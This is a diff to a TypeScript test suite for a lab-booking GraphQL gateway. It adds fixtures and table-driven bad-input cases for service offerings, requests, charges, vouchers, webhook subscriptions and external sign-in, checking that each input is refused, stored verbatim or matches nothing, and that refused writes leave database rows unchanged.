@@ -1,12 +1,15 @@
 import { createHash, generateKeyPairSync, randomUUID } from 'node:crypto';
+import { parse } from 'csv-parse/sync';
 import jwt from 'jsonwebtoken';
-import { PROVINCES, type ProvinceKey } from '../../shared/src';
+import { PROVINCES, seededUserId, type ProvinceKey } from '../../shared/src';
 import { DEFAULT_MAX_OPEN_BOOKINGS_PER_PERSON } from '../../subgraphs/province/src';
 import { DEMO_SEEDS } from '../support/demoData';
 import {
   SlotAllocator, auditCount, book, closePools, createInstrument, createLab, issueCard, localIdOf, localTime, rowState, rowsMarked, sql,
 } from '../support/registryFixtures';
+import { chargeFor } from '../support/chargeFixtures';
 import { leaksIn, sendRaw, type RawRequest } from '../support/rawHttp';
+import { issueVoucher } from '../support/voucherFixtures';
 import { asGateway, gateway, testSystem, tokenFor } from '../support/system';
 import { createUser } from '../support/throwawayIdentities';
 
@@ -130,6 +133,89 @@ afterAll(async () => {
   await closePools();
 });
 
+// ---------- fixtures of the service, charge, voucher and webhook areas ----------
+
+interface ServiceFixtures {
+  /** Sample testing on a Sichuan instrument, its form asking organism (TEXT), concentration (NUMBER) and, optionally, collectedOn (DATE). */
+  scOffering: string;
+  cqOffering: string;
+  /** chen.jing's, submitted. */
+  scRequest: string;
+  /** Sichuan charges of 40 000 fen, chen.jing's; a Chongqing one of li.wei's. */
+  scCharge: string;
+  cqCharge: string;
+  /** Issued to chen.jing, each accepted in both provinces. */
+  cqVoucher: string;
+  scVoucher: string;
+  /** demo-partner's subscription to Sichuan's booking events. */
+  scSubscription: string;
+}
+const sx = {} as ServiceFixtures;
+
+/** A GraphQL call that must succeed: fixtures and the first half of two-step cases. */
+async function must(query: string, token: string | undefined, variables: Record<string, unknown> = {}): Promise<any> {
+  const { body } = await gateway(query, { token, variables });
+  if (body.errors) throw new Error(JSON.stringify(body.errors));
+  return body.data;
+}
+
+const SC_STANDARD = ['OWN_PROVINCE_ACADEMIC', 'OTHER_PROVINCE_ACADEMIC', 'ENTERPRISE', 'INTERNAL'].map((category) => ({ category, amountFen: 80_000 }));
+const CREATE_OFFERING = 'mutation($input: OfferingInput!) { result: createSichuanOffering(input: $input) { id name nameZh requirements sampleForm { name label } prices { band amountFen } } }';
+const validOffering = (marker: string) => ({
+  instrumentId: fx.scInstrument, kind: 'SAMPLE_TESTING', name: `Bad input offering ${marker}`, nameZh: '测试服务', turnaroundDays: 10,
+  requirements: `Marker ${marker}`,
+  sampleForm: [
+    { name: 'organism', label: 'Organism', type: 'TEXT' },
+    { name: 'concentration', label: 'Concentration', type: 'NUMBER' },
+    { name: 'collectedOn', label: 'Collected on', type: 'DATE', required: false },
+  ],
+  prices: SC_STANDARD,
+});
+const SUBMIT = 'mutation($input: ServiceRequestInput!) { result: submitSichuanServiceRequest(input: $input) { id description formValues { name value } } }';
+const validRequest = (marker: string) => ({
+  offeringId: sx.scOffering,
+  formValues: [{ name: 'organism', value: 'Oryza sativa' }, { name: 'concentration', value: '52.5' }],
+  sampleCount: 3, neededBy: daysFromNow(30), description: `Bad input request ${marker}`, idempotencyKey: `key-${marker}`,
+});
+const PDF = Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n').toString('base64');
+const validReport = (marker: string) => ({ fileName: `report-${marker}.pdf`, contentType: 'application/pdf', contentBase64: PDF });
+const QUOTE = 'mutation($id: ID!, $a: Int!, $u: DateTime!, $n: String) { result: quoteSichuanServiceRequest(id: $id, amountFen: $a, validUntil: $u, note: $n) { id } }';
+const ISSUE_REPORT = 'mutation($id: ID!, $r: ServiceReportInput!) { result: issueSichuanServiceReport(id: $id, report: $r) { id report { fileName } } }';
+
+type RequestStage = 'SUBMITTED' | 'QUOTED' | 'ACCEPTED' | 'IN_PROGRESS';
+/** A service request of chen.jing's of its own for one case, taken through the workflow to `stage`. */
+async function requestAt(stage: RequestStage): Promise<string> {
+  const marker = randomUUID().slice(0, 8);
+  const id = (await must(SUBMIT, fx.tokens['chen.jing'], { input: validRequest(marker) })).result.id as string;
+  const steps: [RequestStage, string, Who, Record<string, unknown>][] = [
+    ['QUOTED', QUOTE, 'sc.admin', { a: 500_000, u: daysFromNow(20) }],
+    ['ACCEPTED', 'mutation($id: ID!) { acceptSichuanServiceQuote(id: $id) { id } }', 'chen.jing', {}],
+    ['IN_PROGRESS', 'mutation($id: ID!) { receiveSichuanSamples(id: $id) { id } }', 'sc.admin', {}],
+    ['IN_PROGRESS', 'mutation($id: ID!) { startSichuanServiceRequest(id: $id) { id } }', 'sc.admin', {}],
+  ];
+  const order: RequestStage[] = ['SUBMITTED', 'QUOTED', 'ACCEPTED', 'IN_PROGRESS'];
+  for (const [reached, query, who, variables] of steps) {
+    if (order.indexOf(reached) > order.indexOf(stage)) break;
+    await must(query, fx.tokens[who], { id, ...variables });
+  }
+  return id;
+}
+
+const SUBSCRIBE = 'mutation($input: WebhookSubscriptionInput!) { result: createSichuanWebhookSubscription(input: $input) { subscription { id description } } }';
+const validSubscription = (marker: string) => ({ clientId: 'demo-partner', url: `http://127.0.0.1:9/hooks/${marker}`, eventTypes: ['booking.confirmed'], description: `Marker ${marker}` });
+
+beforeAll(async () => {
+  const url = testSystem().gatewayUrl;
+  sx.scOffering = (await must(CREATE_OFFERING, fx.tokens['sc.admin'], { input: validOffering(randomUUID().slice(0, 8)) })).result.id;
+  sx.cqOffering = (await must('{ chongqing { offerings { id } } }', undefined)).chongqing.offerings[0].id;
+  sx.scRequest = await requestAt('SUBMITTED');
+  sx.scCharge = await chargeFor(sql, 'sichuan', 40_000, 'chen.jing');
+  sx.cqCharge = await chargeFor(sql, 'chongqing', 40_000, 'li.wei');
+  sx.cqVoucher = await issueVoucher(url, tokenFor, 'chongqing', { holder: 'chen.jing' });
+  sx.scVoucher = await issueVoucher(url, tokenFor, 'sichuan', { holder: 'chen.jing' });
+  sx.scSubscription = (await must(SUBSCRIBE, fx.tokens['sc.admin'], { input: validSubscription(randomUUID().slice(0, 8)) })).result.subscription.id;
+}, 60_000);
+
 /** Everything a refused write could have touched: rows carrying its marker, and every fixture with its audit trail. */
 async function writeState(marker: string, catalogue: boolean) {
   const fixtureRows = {
@@ -154,9 +240,19 @@ async function writeState(marker: string, catalogue: boolean) {
     fixtureRows,
     audit,
     bookingsOn,
+    ledgers: { sichuan: await ledgerDigests('sichuan'), chongqing: await ledgerDigests('chongqing') },
     ...(catalogue ? { catalogue: { sichuan: await catalogueDigest('sichuan'), chongqing: await catalogueDigest('chongqing') } } : {}),
   };
 }
+
+/** Offerings, service requests, charges, vouchers and webhooks: a refused write leaves every row of them as it was. */
+const LEDGER_TABLES = [
+  'offerings', 'offering_prices', 'service_requests', 'service_request_events', 'service_reports', 'charges', 'charge_lines',
+  'vouchers', 'voucher_events', 'voucher_holds', 'voucher_redemptions', 'webhook_subscriptions',
+] as const;
+const ledgerDigests = async (province: ProvinceKey) =>
+  Object.fromEntries(await Promise.all(LEDGER_TABLES.map(async (table) =>
+    [table, (await sql(province, `SELECT count(*)::int AS n, md5(coalesce(string_agg(t::text, '|' ORDER BY t::text), '')) AS d FROM ${table} t`))[0]] as const)));
 
 const catalogueDigest = async (province: ProvinceKey) =>
   (await sql(province, "SELECT md5(coalesce(string_agg(row_to_json(t)::text, '|' ORDER BY code), '')) AS d FROM recognition_catalog t"))[0]!['d'];
@@ -609,6 +705,330 @@ const CATALOGUE_INPUTS: StringInput[] = [
     verdicts: ['NOT_FOUND', 'NOT_FOUND', B],
     request: (v) => ({ query: 'mutation($c: String!) { removeSichuanRecognitionItem(code: $c) { code } }', variables: { c: v } }),
   },
+];
+
+const NOTHING: readonly [Verdict, Verdict, Verdict] = ['nothing', 'nothing', B];
+/** Webhook subscriptions and calendar feeds are named by bare UUIDs: any other text names none of them. */
+const UNKNOWN_ID: readonly [Verdict, Verdict, Verdict] = ['NOT_FOUND', 'NOT_FOUND', 'NOT_FOUND'];
+/** The note of a service request's last step, as the database holds it. */
+const lastRequestNote = async (requestId: string) =>
+  (await sql('sichuan', 'SELECT note AS v FROM service_request_events WHERE request_id = $1 ORDER BY id DESC LIMIT 1', [localIdOf(requestId)]))[0]?.['v'];
+
+const OFFERING_INPUTS: StringInput[] = [
+  ...(['instrumentId', 'labId'] as const).map((field): StringInput => ({
+    input: `createSichuanOffering(input.${field})`,
+    as: 'sc.admin',
+    write: true,
+    verdicts: REFUSED,
+    request: (v, m) => ({ query: CREATE_OFFERING, variables: { input: { ...validOffering(m), instrumentId: null, [field]: v } } }),
+  })),
+  ...(['name', 'nameZh', 'requirements'] as const).map((field): StringInput => ({
+    input: `createSichuanOffering(input.${field})`,
+    as: 'sc.admin',
+    write: true,
+    verdicts: STORED,
+    request: (v, m) => ({ query: CREATE_OFFERING, variables: { input: { ...validOffering(m), [field]: v } } }),
+    stored: async (data) => [data.result[field], await column('sichuan', 'offerings', SNAKE[field] ?? field, data.result.id)],
+  })),
+  {
+    input: 'createSichuanOffering(input.sampleForm.label)',
+    as: 'sc.admin',
+    write: true,
+    verdicts: STORED,
+    request: (v, m) => ({ query: CREATE_OFFERING, variables: { input: { ...validOffering(m), sampleForm: [{ name: 'organism', label: v, type: 'TEXT' }] } } }),
+    stored: async (data) => [data.result.sampleForm[0].label, (await column('sichuan', 'offerings', 'sample_form', data.result.id))[0].label],
+  },
+  { input: 'createSichuanOffering(input.sampleForm.name)', as: 'sc.admin', write: true, verdicts: REFUSED, request: (v, m) => ({ query: CREATE_OFFERING, variables: { input: { ...validOffering(m), sampleForm: [{ name: v, label: 'Organism', type: 'TEXT' }] } } }) },
+  { input: 'createSichuanOffering(input.prices.band)', as: 'sc.admin', write: true, verdicts: REFUSED, request: (v, m) => ({ query: CREATE_OFFERING, variables: { input: { ...validOffering(m), kind: 'CONSULTATION', sampleForm: [], prices: [{ category: 'ENTERPRISE', band: v, fromHour: 9, toHour: 12, amountFen: 1 }] } } }) },
+  { input: 'updateSichuanOffering(id)', as: 'sc.admin', write: true, verdicts: REFUSED, request: (v, m) => ({ query: 'mutation($id: ID!, $n: String) { updateSichuanOffering(id: $id, input: { name: $n }) { id } }', variables: { id: v, n: `Renamed ${m}` } }) },
+  {
+    input: 'updateSichuanOffering(input.name)',
+    as: 'sc.admin',
+    write: true,
+    verdicts: STORED,
+    request: async (v, m) => ({
+      query: 'mutation($id: ID!, $n: String) { result: updateSichuanOffering(id: $id, input: { name: $n }) { id name } }',
+      variables: { id: (await must(CREATE_OFFERING, fx.tokens['sc.admin'], { input: validOffering(m) })).result.id, n: v },
+    }),
+    stored: async (data) => [data.result.name, await column('sichuan', 'offerings', 'name', data.result.id)],
+  },
+  { input: 'setSichuanOfferingPrices(id)', as: 'sc.admin', write: true, verdicts: REFUSED, request: (v) => ({ query: 'mutation($id: ID!, $p: [PriceInput!]!) { setSichuanOfferingPrices(id: $id, prices: $p) { id } }', variables: { id: v, p: SC_STANDARD } }) },
+  { input: 'sichuan.offering(id)', verdicts: REFUSED, request: (v) => ({ query: 'query($v: ID!) { sichuan { offering(id: $v) { id } } }', variables: { v } }) },
+  { input: 'sichuan.offerings(instrumentId)', verdicts: REFUSED, request: (v) => ({ query: 'query($v: ID) { sichuan { offerings(instrumentId: $v) { id } } }', variables: { v } }) },
+  { input: 'sichuan.offerings(labId)', verdicts: REFUSED, request: (v) => ({ query: 'query($v: ID) { sichuan { offerings(labId: $v) { id } } }', variables: { v } }) },
+  {
+    input: 'SichuanOffering.priceForMe(at)',
+    targets: BOTH,
+    verdicts: REFUSED,
+    request: (v) => ({ query: 'query($id: ID!, $at: DateTime) { sichuan { offering(id: $id) { priceForMe(at: $at) { amountFen } } } }', variables: { id: sx.scOffering, at: v } }),
+    status: [200, 400],
+  },
+];
+
+const SERVICE_REQUEST_INPUTS: StringInput[] = [
+  { input: 'submitSichuanServiceRequest(input.offeringId)', as: 'chen.jing', write: true, verdicts: REFUSED, request: (v, m) => ({ query: SUBMIT, variables: { input: { ...validRequest(m), offeringId: v } } }) },
+  {
+    input: 'submitSichuanServiceRequest(input.description)',
+    as: 'chen.jing',
+    write: true,
+    verdicts: STORED,
+    request: (v, m) => ({ query: SUBMIT, variables: { input: { ...validRequest(m), description: v } } }),
+    stored: async (data) => [data.result.description, await column('sichuan', 'service_requests', 'description', data.result.id)],
+  },
+  {
+    input: 'submitSichuanServiceRequest(input.formValues.value) of a TEXT field',
+    as: 'chen.jing',
+    write: true,
+    verdicts: STORED,
+    request: (v, m) => ({ query: SUBMIT, variables: { input: { ...validRequest(m), formValues: [{ name: 'organism', value: v }, { name: 'concentration', value: '1' }] } } }),
+    stored: async (data) => [
+      data.result.formValues.find((value: { name: string }) => value.name === 'organism').value,
+      (await column('sichuan', 'service_requests', 'form_values', data.result.id))['organism'],
+    ],
+  },
+  ...(['concentration', 'collectedOn'] as const).map((field): StringInput => ({
+    input: `submitSichuanServiceRequest(input.formValues.value) of a ${field === 'concentration' ? 'NUMBER' : 'DATE'} field`,
+    as: 'chen.jing',
+    write: true,
+    verdicts: REFUSED,
+    request: (v, m) => ({ query: SUBMIT, variables: { input: { ...validRequest(m), formValues: [...validRequest(m).formValues.filter((value) => value.name !== field), { name: field, value: v }] } } }),
+  })),
+  { input: 'submitSichuanServiceRequest(input.formValues.name)', as: 'chen.jing', write: true, verdicts: REFUSED, request: (v, m) => ({ query: SUBMIT, variables: { input: { ...validRequest(m), formValues: [...validRequest(m).formValues, { name: v, value: 'x' }] } } }) },
+  { input: 'submitSichuanServiceRequest(input.idempotencyKey)', as: 'chen.jing', write: true, verdicts: REFUSED, request: (v, m) => ({ query: SUBMIT, variables: { input: { ...validRequest(m), idempotencyKey: v } } }) },
+  {
+    input: 'submitSichuanServiceRequest(input.neededBy)',
+    as: 'chen.jing',
+    targets: BOTH,
+    write: true,
+    verdicts: REFUSED,
+    request: (v, m) => ({ query: SUBMIT, variables: { input: { ...validRequest(m), neededBy: v } } }),
+    status: [200, 400],
+  },
+  { input: 'quoteSichuanServiceRequest(id)', as: 'sc.admin', write: true, verdicts: REFUSED, request: (v) => ({ query: QUOTE, variables: { id: v, a: 1_000, u: daysFromNow(20) } }) },
+  {
+    input: 'quoteSichuanServiceRequest(note)',
+    as: 'sc.admin',
+    write: true,
+    verdicts: STORED,
+    request: async (v) => ({ query: QUOTE.replace('{ id }', '{ id history { note } }'), variables: { id: await requestAt('SUBMITTED'), a: 1_000, u: daysFromNow(20), n: v } }),
+    stored: async (data) => [data.result.history.at(-1).note, await lastRequestNote(data.result.id)],
+  },
+  ...([
+    ['acceptSichuanServiceQuote', 'note', 'QUOTED', 'chen.jing'],
+    ['declineSichuanServiceQuote', 'reason', 'QUOTED', 'chen.jing'],
+    ['cancelSichuanServiceRequest', 'reason', 'SUBMITTED', 'chen.jing'],
+    ['rejectSichuanServiceRequest', 'reason', 'SUBMITTED', 'sc.admin'],
+    ['receiveSichuanSamples', 'note', 'ACCEPTED', 'sc.admin'],
+    ['startSichuanServiceRequest', 'note', 'IN_PROGRESS', 'sc.admin'],
+  ] as const).flatMap(([mutation, argument, stage, who]): StringInput[] => [
+    { input: `${mutation}(id)`, as: who, write: true, verdicts: REFUSED, request: (v) => ({ query: `mutation($id: ID!) { ${mutation}(id: $id, ${argument}: "Because") { id } }`, variables: { id: v } }) },
+    {
+      input: `${mutation}(${argument})`,
+      as: who,
+      write: true,
+      verdicts: STORED,
+      request: async (v) => ({
+        // start needs a request whose samples arrived: IN_PROGRESS is reached by starting, so stop one step short.
+        query: `mutation($id: ID!, $n: String!) { result: ${mutation}(id: $id, ${argument}: $n) { id history { note } } }`,
+        variables: { id: mutation === 'startSichuanServiceRequest' ? await samplesReceived() : await requestAt(stage), n: v },
+      }),
+      stored: async (data) => [data.result.history.at(-1).note, await lastRequestNote(data.result.id)],
+    },
+  ]),
+  { input: 'issueSichuanServiceReport(id)', as: 'sc.admin', write: true, verdicts: REFUSED, request: (v, m) => ({ query: ISSUE_REPORT, variables: { id: v, r: validReport(m) } }) },
+  {
+    input: 'issueSichuanServiceReport(report.fileName)',
+    as: 'sc.admin',
+    write: true,
+    verdicts: REFUSED,
+    request: async (v) => ({ query: ISSUE_REPORT, variables: { id: await requestAt('IN_PROGRESS'), r: { ...validReport('x'), fileName: v } } }),
+  },
+  { input: 'issueSichuanServiceReport(report.contentType)', as: 'sc.admin', write: true, verdicts: REFUSED, request: async (v) => ({ query: ISSUE_REPORT, variables: { id: await requestAt('IN_PROGRESS'), r: { ...validReport('x'), contentType: v } } }) },
+  { input: 'issueSichuanServiceReport(report.contentBase64)', as: 'sc.admin', write: true, verdicts: REFUSED, request: async (v) => ({ query: ISSUE_REPORT, variables: { id: await requestAt('IN_PROGRESS'), r: { ...validReport('x'), contentBase64: v } } }) },
+  { input: 'sichuan.serviceRequest(id)', as: 'chen.jing', verdicts: REFUSED, request: (v) => ({ query: 'query($v: ID!) { sichuan { serviceRequest(id: $v) { id } } }', variables: { v } }) },
+  { input: 'sichuan.serviceRequests(after)', as: 'sc.admin', verdicts: REFUSED, request: (v) => ({ query: 'query($v: String) { sichuan { serviceRequests(after: $v) { totalCount } } }', variables: { v } }) },
+];
+
+/** A request of chen.jing's whose samples arrived, ready to start. */
+async function samplesReceived(): Promise<string> {
+  const id = await requestAt('ACCEPTED');
+  await must('mutation($id: ID!) { receiveSichuanSamples(id: $id) { id } }', fx.tokens['sc.admin'], { id });
+  return id;
+}
+
+const STATEMENT = 'query($p: ID, $from: DateTime!, $to: DateTime!) { sichuan { statement(payerId: $p, from: $from, to: $to) { totalFen } } }';
+const CREDIT = 'mutation($id: ID!, $a: Int!, $r: String!) { result: creditSichuanCharge(chargeId: $id, amountFen: $a, reason: $r) { id lines { kind reason } } }';
+
+const CHARGE_INPUTS: StringInput[] = [
+  { input: 'sichuan.charge(id)', as: 'chen.jing', verdicts: REFUSED, request: (v) => ({ query: 'query($v: ID!) { sichuan { charge(id: $v) { id } } }', variables: { v } }) },
+  { input: 'sichuan.statement(payerId)', as: 'sc.admin', verdicts: REFUSED, request: (v) => ({ query: STATEMENT, variables: { p: v, from: daysFromNow(-30), to: daysFromNow(1) } }) },
+  { input: 'sichuan.statement(from)', as: 'chen.jing', targets: BOTH, verdicts: REFUSED, request: (v) => ({ query: STATEMENT, variables: { from: v, to: daysFromNow(1) } }), status: [200, 400] },
+  { input: 'sichuan.chargesCsv(to)', as: 'sc.admin', targets: BOTH, verdicts: REFUSED, request: (v) => ({ query: 'query($from: DateTime!, $to: DateTime!) { sichuan { chargesCsv(from: $from, to: $to) } }', variables: { from: daysFromNow(-30), to: v } }), status: [200, 400] },
+  { input: 'creditSichuanCharge(chargeId)', as: 'sc.admin', write: true, verdicts: REFUSED, request: (v) => ({ query: CREDIT, variables: { id: v, a: 100, r: 'Goodwill' } }) },
+  {
+    input: 'creditSichuanCharge(reason)',
+    as: 'sc.admin',
+    write: true,
+    verdicts: STORED,
+    request: async (v) => ({ query: CREDIT, variables: { id: await chargeFor(sql, 'sichuan', 10_000), a: 100, r: v } }),
+    stored: async (data) => [
+      data.result.lines.at(-1).reason,
+      (await sql('sichuan', "SELECT reason AS v FROM charge_lines WHERE charge_id = $1 AND kind = 'CREDIT'", [localIdOf(data.result.id)]))[0]?.['v'],
+    ],
+  },
+];
+
+const ISSUE_VOUCHER = 'mutation($input: IssueVoucherInput!) { result: issueSichuanVoucher(input: $input) { id holderName acceptedIn } }';
+const validVoucher = (marker: string) => ({
+  holderUserId: seededUserId('chen.jing'), holderName: `Holder ${marker}`, amountFen: 100_000, validFrom: daysFromNow(-1), validUntil: daysFromNow(30),
+  acceptedIn: ['SICHUAN', 'CHONGQING'], maxSharePercent: 50,
+});
+const RESERVE = `mutation($v: ID!, $a: Int!, $c: Int!, $s: Province!, $ref: String!, $k: ID!, $e: Int) {
+  result: reserveChongqingVoucher(voucherId: $v, amountFen: $a, chargeAmountFen: $c, servingProvince: $s, chargeRef: $ref, holdKey: $k, expiresInSeconds: $e) { id chargeRef } }`;
+const validReserve = () => ({ v: sx.cqVoucher, a: 100, c: 1_000, s: 'SICHUAN', ref: 'CHG-BAD-INPUT', k: randomUUID() });
+const HOLD_STEP = (step: 'capture' | 'release') =>
+  `mutation($v: ID!, $k: ID!, $s: Province!) { result: ${step}ChongqingVoucherHold(voucherId: $v, holdKey: $k, servingProvince: $s) { id status } }`;
+const PAY = `mutation($ref: String!, $c: Int!, $v: ID!, $a: Int!, $k: String!) {
+  result: paySichuanChargeWithVoucher(chargeRef: $ref, chargeAmountFen: $c, voucherId: $v, amountFen: $a, idempotencyKey: $k) { id state } }`;
+const validPay = (marker: string) => ({ ref: sx.scCharge, c: 40_000, v: sx.cqVoucher, a: 100, k: `key-${marker}` });
+const SETTLEMENT = 'query($from: DateTime!, $to: DateTime!) { sichuan { voucherSettlement(from: $from, to: $to) { netFromPartnerTotalFen } } }';
+
+const VOUCHER_INPUTS: StringInput[] = [
+  { input: 'issueSichuanVoucher(input.holderUserId)', as: 'sc.admin', write: true, verdicts: REFUSED, request: (v, m) => ({ query: ISSUE_VOUCHER, variables: { input: { ...validVoucher(m), holderUserId: v } } }) },
+  {
+    input: 'issueSichuanVoucher(input.holderName)',
+    as: 'sc.admin',
+    write: true,
+    verdicts: STORED,
+    request: (v, m) => ({ query: ISSUE_VOUCHER, variables: { input: { ...validVoucher(m), holderName: v } } }),
+    stored: async (data) => [data.result.holderName, await column('sichuan', 'vouchers', 'holder_name', data.result.id)],
+  },
+  {
+    input: 'issueSichuanVoucher(input.validUntil)',
+    as: 'sc.admin',
+    targets: BOTH,
+    write: true,
+    verdicts: REFUSED,
+    request: (v, m) => ({ query: ISSUE_VOUCHER, variables: { input: { ...validVoucher(m), validUntil: v } } }),
+    status: [200, 400],
+  },
+  { input: 'reserveChongqingVoucher(voucherId)', as: 'chen.jing', write: true, verdicts: REFUSED, request: (v) => ({ query: RESERVE, variables: { ...validReserve(), v } }) },
+  { input: 'reserveChongqingVoucher(holdKey)', as: 'chen.jing', write: true, verdicts: REFUSED, request: (v) => ({ query: RESERVE, variables: { ...validReserve(), k: v } }) },
+  {
+    input: 'reserveChongqingVoucher(chargeRef)',
+    as: 'chen.jing',
+    write: true,
+    verdicts: STORED,
+    request: (v) => ({ query: RESERVE, variables: { ...validReserve(), ref: v } }),
+    stored: async (data) => [data.result.chargeRef, (await sql('chongqing', 'SELECT charge_ref AS v FROM voucher_holds WHERE id = $1', [data.result.id]))[0]?.['v']],
+  },
+  ...(['capture', 'release'] as const).flatMap((step): StringInput[] => [
+    { input: `${step}ChongqingVoucherHold(voucherId)`, write: true, verdicts: REFUSED, request: (v) => ({ query: HOLD_STEP(step), variables: { v, k: randomUUID(), s: 'SICHUAN' } }) },
+    { input: `${step}ChongqingVoucherHold(holdKey)`, write: true, verdicts: REFUSED, request: (v) => ({ query: HOLD_STEP(step), variables: { v: sx.cqVoucher, k: v, s: 'SICHUAN' } }) },
+  ]),
+  ...(['ref', 'v', 'k'] as const).map((argument): StringInput => ({
+    input: `paySichuanChargeWithVoucher(${{ ref: 'chargeRef', v: 'voucherId', k: 'idempotencyKey' }[argument]})`,
+    as: 'chen.jing',
+    write: true,
+    verdicts: REFUSED,
+    request: (v, m) => ({ query: PAY, variables: { ...validPay(m), [argument]: v } }),
+  })),
+  { input: 'chongqing.voucher(id)', as: 'chen.jing', verdicts: REFUSED, request: (v) => ({ query: 'query($v: ID!) { chongqing { voucher(id: $v) { id } } }', variables: { v } }) },
+  {
+    input: 'chongqing.voucherHold(holdKey)',
+    verdicts: REFUSED,
+    request: (v) => ({ query: 'query($v: ID!, $k: ID!) { chongqing { voucherHold(voucherId: $v, holdKey: $k, servingProvince: SICHUAN) { id } } }', variables: { v: sx.cqVoucher, k: v } }),
+  },
+  { input: 'sichuan.vouchers(after)', as: 'sc.admin', verdicts: REFUSED, request: (v) => ({ query: 'query($v: String) { sichuan { vouchers(after: $v) { totalCount } } }', variables: { v } }) },
+  { input: 'sichuan.voucherHolds(after)', as: 'sc.admin', verdicts: REFUSED, request: (v) => ({ query: 'query($v: String) { sichuan { voucherHolds(after: $v) { totalCount } } }', variables: { v } }) },
+  { input: 'sichuan.voucherRedemptions(after)', as: 'sc.admin', verdicts: REFUSED, request: (v) => ({ query: 'query($v: String) { sichuan { voucherRedemptions(after: $v) { totalCount } } }', variables: { v } }) },
+  { input: 'sichuan.voucherSettlement(from)', as: 'sc.admin', targets: BOTH, verdicts: REFUSED, request: (v) => ({ query: SETTLEMENT, variables: { from: v, to: daysFromNow(1) } }), status: [200, 400] },
+];
+
+const WEBHOOK_INPUTS: StringInput[] = [
+  ...(['clientId', 'url'] as const).map((field): StringInput => ({
+    input: `createSichuanWebhookSubscription(input.${field})`,
+    as: 'sc.admin',
+    write: true,
+    verdicts: REFUSED,
+    request: (v, m) => ({ query: SUBSCRIBE, variables: { input: { ...validSubscription(m), [field]: v } } }),
+  })),
+  { input: 'createSichuanWebhookSubscription(input.eventTypes)', as: 'sc.admin', write: true, verdicts: REFUSED, request: (v, m) => ({ query: SUBSCRIBE, variables: { input: { ...validSubscription(m), eventTypes: [v] } } }) },
+  {
+    input: 'createSichuanWebhookSubscription(input.description)',
+    as: 'sc.admin',
+    write: true,
+    verdicts: STORED,
+    request: (v, m) => ({ query: SUBSCRIBE, variables: { input: { ...validSubscription(m), description: v } } }),
+    // Subscriptions are named by a bare UUID, not a global id.
+    stored: async (data) => [
+      data.result.subscription.description,
+      (await sql('sichuan', 'SELECT description AS v FROM webhook_subscriptions WHERE id = $1', [data.result.subscription.id]))[0]?.['v'],
+    ],
+  },
+  { input: 'updateSichuanWebhookSubscription(id)', as: 'sc.admin', write: true, verdicts: UNKNOWN_ID, request: (v) => ({ query: 'mutation($id: ID!) { updateSichuanWebhookSubscription(id: $id, input: { active: false }) { id } }', variables: { id: v } }) },
+  { input: 'updateSichuanWebhookSubscription(input.url)', as: 'sc.admin', write: true, verdicts: REFUSED, request: (v) => ({ query: 'mutation($id: ID!, $u: String) { updateSichuanWebhookSubscription(id: $id, input: { url: $u }) { id } }', variables: { id: sx.scSubscription, u: v } }) },
+  { input: 'deleteSichuanWebhookSubscription(id)', as: 'sc.admin', write: true, verdicts: UNKNOWN_ID, request: (v) => ({ query: 'mutation($id: ID!) { deleteSichuanWebhookSubscription(id: $id) }', variables: { id: v } }) },
+  { input: 'rotateSichuanWebhookSecret(id)', as: 'sc.admin', write: true, verdicts: UNKNOWN_ID, request: (v) => ({ query: 'mutation($id: ID!) { rotateSichuanWebhookSecret(id: $id) { secret } }', variables: { id: v } }) },
+  {
+    input: 'replaySichuanWebhookDeliveries(from)',
+    as: 'sc.admin',
+    targets: BOTH,
+    write: true,
+    verdicts: REFUSED,
+    request: (v) => ({ query: 'mutation($id: ID!, $from: DateTime!) { replaySichuanWebhookDeliveries(id: $id, from: $from) }', variables: { id: sx.scSubscription, from: v } }),
+    status: [200, 400],
+  },
+  {
+    input: 'sichuan.webhookSubscriptions(clientId)',
+    as: 'sc.admin',
+    verdicts: NOTHING,
+    request: (v) => ({ query: 'query($v: String) { sichuan { webhookSubscriptions(clientId: $v) { id } } }', variables: { v } }),
+    nothing: (data) => expect(data.sichuan.webhookSubscriptions).toEqual([]),
+  },
+  { input: 'sichuan.events(after)', as: 'sc.admin', verdicts: REFUSED, request: (v) => ({ query: 'query($v: String) { sichuan { events(after: $v) { edges { cursor } } } }', variables: { v } }) },
+  { input: 'sichuan.events(types)', as: 'sc.admin', verdicts: REFUSED, request: (v) => ({ query: 'query($v: String!) { sichuan { events(types: [$v]) { edges { cursor } } } }', variables: { v } }) },
+  {
+    input: 'SichuanWebhookSubscription.deliveries(after)',
+    as: 'sc.admin',
+    verdicts: REFUSED,
+    request: (v) => ({ query: 'query($v: String) { sichuan { webhookSubscriptions { deliveries(after: $v) { edges { cursor } } } } }', variables: { v } }),
+  },
+];
+
+const SIGN_IN_ELSEWHERE_INPUTS: StringInput[] = [
+  ...(['beginExternalSignIn', 'beginExternalIdentityLink'] as const).flatMap((mutation): StringInput[] => [
+    {
+      input: `${mutation}(provider)`,
+      as: mutation === 'beginExternalIdentityLink' ? 'li.wei' : undefined,
+      targets: ['gateway', 'platform'],
+      verdicts: REFUSED,
+      request: (v) => ({ query: `mutation($p: String!) { ${mutation}(provider: $p, redirectUri: "http://127.0.0.1:5173/signed-in") { state } }`, variables: { p: v } }),
+    },
+    {
+      input: `${mutation}(redirectUri)`,
+      as: mutation === 'beginExternalIdentityLink' ? 'li.wei' : undefined,
+      verdicts: REFUSED,
+      request: (v) => ({ query: `mutation($r: String!) { ${mutation}(provider: "demo", redirectUri: $r) { state } }`, variables: { r: v } }),
+    },
+  ]),
+  ...(['completeExternalSignIn', 'completeExternalIdentityLink'] as const).flatMap((mutation): StringInput[] => [
+    {
+      input: `${mutation}(callbackUrl)`,
+      as: mutation === 'completeExternalIdentityLink' ? 'li.wei' : undefined,
+      targets: ['gateway', 'platform'],
+      verdicts: REFUSED,
+      request: (v) => ({ query: `mutation($c: String!) { ${mutation}(provider: "demo", callbackUrl: $c) { __typename } }`, variables: { c: v } }),
+    },
+    {
+      input: `${mutation}(callbackUrl) as a URL carrying it`,
+      as: mutation === 'completeExternalIdentityLink' ? 'li.wei' : undefined,
+      verdicts: REFUSED,
+      request: (v) => ({ query: `mutation($c: String!) { ${mutation}(provider: "demo", callbackUrl: $c) { __typename } }`, variables: { c: `http://127.0.0.1:5173/signed-in?code=${encodeURIComponent(v)}&state=${encodeURIComponent(v)}` } }),
+    },
+  ]),
+  { input: 'unlinkExternalIdentity(provider)', as: 'li.wei', verdicts: REFUSED, request: (v) => ({ query: 'mutation($p: String!) { unlinkExternalIdentity(provider: $p) }', variables: { p: v } }) },
